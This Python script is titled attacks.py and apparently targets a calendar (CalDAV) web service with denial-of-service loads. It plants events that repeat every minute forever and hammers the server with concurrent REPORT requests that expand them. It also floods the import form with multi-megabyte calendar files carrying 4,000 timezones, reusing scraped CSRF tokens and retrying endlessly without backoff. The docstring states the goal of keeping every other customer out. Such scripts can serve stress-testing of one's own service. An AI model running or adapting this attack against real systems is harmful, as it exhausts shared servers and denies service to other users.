"""What one customer asks for who wants to keep everybody else out. Goes on until it is ended.

python3 attacks.py KIND ORIGIN EMAIL PASSWORD COOKIE: `prepare` stores the events that `reports` asks for. `reports` has
16 reports in flight, each for three endless series that are expanded. `uploads` uploads a calendar file of 1 MB with
4,000 zones ten times at once, and again; `upload` one of 5 MB. Prints how many got which status when it is ended.
"""

import base64
import collections
import http.client
import re
import signal
import ssl
import sys
import threading
import time
from urllib.parse import urlsplit

kind, origin, email, password, cookie = sys.argv[1:]
host, port = urlsplit(origin).hostname, urlsplit(origin).port
context = ssl._create_unverified_context()
basic = "Basic " + base64.b64encode(f"{email}:{password}".encode()).decode()
statuses = collections.Counter()


def connect():
    return http.client.HTTPSConnection(host, port, context=context, timeout=60)


def ask(connection, method, path, body, headers):
    connection.request(method, path, body, headers)
    answer = connection.getresponse()
    return answer, answer.read()


def home():
    body = '<d:propfind xmlns:d="DAV:"><d:prop><d:current-user-principal/></d:prop></d:propfind>'
    _, answer = ask(connect(), "PROPFIND", "/dav/", body, {"Authorization": basic, "Depth": "0"})
    return re.search(rb"/dav/principals/([^/]+)/", answer)[1].decode().join(["/dav/calendars/", "/personal/"])


def series(number):
    return (f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//A//B//EN\r\nBEGIN:VEVENT\r\nUID:m{number}\r\n"
            "DTSTAMP:20260101T000000Z\r\nDTSTART:20260101T000000Z\r\nDURATION:PT1S\r\nRRULE:FREQ=MINUTELY\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n")


def zones(count, padding):
    zone = "".join(
        f"BEGIN:VTIMEZONE\r\nTZID:Z{number}\r\nBEGIN:STANDARD\r\nDTSTART:19700101T000000\r\nRRULE:FREQ=YEARLY\r\n"
        "TZOFFSETFROM:+0300\r\nTZOFFSETTO:+0300\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\n"
        f"BEGIN:VEVENT\r\nUID:z{number}\r\nDTSTAMP:20260101T000000Z\r\nDTSTART;TZID=Z{number}:20260101T090000\r\n"
        f"DESCRIPTION:{'x' * padding}\r\nEND:VEVENT\r\n" for number in range(count))
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//A//B//EN\r\n{zone}END:VCALENDAR\r\n".encode()


def upload(connection, file):
    _, page = ask(connection, "GET", "/calendars/import", None, {"Cookie": cookie})
    token = re.search(rb'name="csrf" value="([^"]+)"', page)
    calendar = re.search(rb'name="calendar".*?value="(\d+)"', page, re.DOTALL)
    if token is None or calendar is None:
        return None
    parts = b'--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n' + token[1] + (
        b'\r\n--x\r\nContent-Disposition: form-data; name="calendar"\r\n\r\n' + calendar[1] +
        b'\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="a.ics"\r\nContent-Type: text/calendar\r\n\r\n'
        + file + b"\r\n--x--\r\n")
    headers = {"Cookie": cookie, "Origin": origin, "Content-Type": "multipart/form-data; boundary=x"}
    return ask(connection, "POST", "/calendars/import", parts, headers)[0]


def again(step):
    """Runs a step again and again. A refusal is no reason to wait."""
    connection = connect()
    while True:
        try:
            answer = step(connection)
            statuses[answer.status if answer else "page refused"] += 1
        except (OSError, http.client.HTTPException):
            statuses["broken"] += 1
            connection.close()
            connection = connect()


def report(path):
    hrefs = "".join(f"<d:href>{path}m{number}.ics</d:href>" for number in range(3))
    body = ('<c:calendar-multiget xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><c:calendar-data>'
            '<c:expand start="20260101T000000Z" end="20260115T000000Z"/></c:calendar-data></d:prop>'
            f"{hrefs}</c:calendar-multiget>")
    return lambda connection: ask(connection, "REPORT", path, body, {"Authorization": basic, "Depth": "1"})[0]


def ended(*_):
    print(", ".join(f"{count} × {status}" for status, count in sorted(statuses.items(), key=str)), flush=True)
    sys.exit(0)


if kind == "prepare":
    path = home()
    for number in range(3):
        answer, _ = ask(connect(), "PUT", f"{path}m{number}.ics", series(number), {"Authorization": basic})
        assert answer.status in (201, 204), answer.status
    sys.exit(0)
signal.signal(signal.SIGTERM, ended)
if kind == "reports":
    count, step = 16, report(home())
else:
    file = zones(4_000, 0) if kind == "uploads" else zones(4_000, 1_000)
    count, step = 10 if kind == "uploads" else 1, lambda connection: upload(connection, file)
for _ in range(count):
    threading.Thread(target=again, args=(step,), daemon=True).start()
while True:
    time.sleep(1)
